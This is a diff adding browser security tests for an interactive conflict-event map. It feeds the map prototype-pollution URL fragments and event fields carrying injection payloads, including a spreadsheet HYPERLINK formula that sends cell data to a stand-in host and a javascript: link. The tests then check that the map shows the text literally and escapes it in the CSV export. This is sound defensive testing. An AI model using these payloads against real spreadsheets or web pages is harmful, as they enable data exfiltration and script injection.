@@ -129,6 +129,10 @@ def test_context_text_runs_no_script_and_shows_literally(open_map, hostile_conte
         "#start=%E0%A4%A&end=%zz&hide=%",
         "#view=1e999,-1e999,99&start=9999-99-99&end=0000-00-00",
         "#__proto__=x&constructor=y&hide=Battles",
+        # the explorer's keys: filters, playback, density, each checked against known values
+        "#actor=__proto__,constructor&sub=%zz&prov=toString&minfat=-1"
+        "&step=__proto__&speed=99&mode=constructor&len=7&measure=__proto__&show=__proto__,toString",
+        "#minfat=99999999999&q=" + "x" * 300 + "&actor=%E0%A4%A&show=Density%3A%20heat",
     ],
 )
 def test_hostile_links_leave_a_working_page(browser, tmp_path, fragment) -> None:
@@ -147,6 +151,69 @@ def test_hostile_links_leave_a_working_page(browser, tmp_path, fragment) -> None
         )
         assert page.evaluate("id => conflictMap.openPopup(id)", ids[0]) in (True, False)
         assert page.evaluate("Object.keys(Object.prototype).length") == 0  # nothing polluted
+        f = page.evaluate("conflictMap.filter()")
+        assert f["actors"] == [] and f["subEventTypes"] == [] and f["provinces"] == []
+        assert page.evaluate("conflictMap.playback().speed") == 1
         assert _real_errors(rec) == []
     finally:
         page.close()
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+
+
+def test_explorer_text_is_shown_literally_and_exported_safely(open_map, tmp_path) -> None:
+    """Actor names in the filter list, entries of a stacked popup, downloaded CSV cells."""
+    features = []
+    for k, actor in enumerate((TEXT, FORMULA, "+" + TEXT)):
+        props = {
+            "event_id": f"h{k}",
+            "date_start": "2022-05-01",
+            "event_type": "Battles",
+            "sub_event_type": "Armed clash",
+            "actor1": actor,
+            "country": "AFG",
+            "province": TEXT,
+            "location": "-" + TEXT,
+            "geo_precision": "exact",
+            "summary": "@" + TEXT,
+            "sources": [{"name": "=" + TEXT, "url": "javascript:" + PWNED}],
+        }
+        point = {"type": "Point", "coordinates": [69.9, 33.35]}  # one spot: a stack
+        features.append({"type": "Feature", "geometry": point, "properties": props})
+    src = tmp_path / "h.geojson"
+    src.write_text(json.dumps({"type": "FeatureCollection", "features": features}), "utf-8")
+    out = tmp_path / "h.html"
+    assert main(["build", "--events", str(src), "--out", str(out)]) == 0
+    rec = open_map(out)
+    page = rec.page
+    page.get_by_role("button", name="Filter").click()
+    actors = page.locator(".geo-filter-actors label").all_inner_texts()
+    assert TEXT in actors and FORMULA in actors
+    assert page.locator(".geo-filters img, .geo-filters script").count() == 0
+    pos = page.evaluate("conflictMap.screenPosition('h0')")
+    box = page.locator(".folium-map").bounding_box()
+    page.mouse.click(box["x"] + pos["x"], box["y"] + pos["y"])
+    stack = page.locator(".geo-stack")
+    stack.wait_for()
+    assert stack.locator("details").count() == 3
+    stack.locator("details[data-event-id='h0'] summary").click()
+    card = stack.locator("details[data-event-id='h0'] .geo-popup")
+    assert ("@" + TEXT) in card.inner_text()
+    assert stack.locator("img, script").count() == 0 and stack.locator("a").count() == 0
+    page.evaluate("n => conflictMap.setFilter({actors: [n]})", TEXT)
+    assert page.evaluate("conflictMap.visibleEventIds()") == ["h0"]
+    assert page.evaluate("conflictMap.setFilter({actors: []}).actors") == []
+    text = page.evaluate("conflictMap.exportData('csv').text")
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["actor1"] for r in rows] == [TEXT, "'" + FORMULA, "'+" + TEXT]
+    assert all(r["summary"] == "'@" + TEXT and r["location"] == "'-" + TEXT for r in rows)
+    assert all(r["source_names"] == "'=" + TEXT for r in rows)
+    name = page.evaluate("conflictMap.exportData('geojson').name")
+    assert name.endswith(".geojson") and "/" not in name and "<" not in name
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.__pwned || 0") == 0
+    assert rec.dialogs == [] and _real_errors(rec) == []
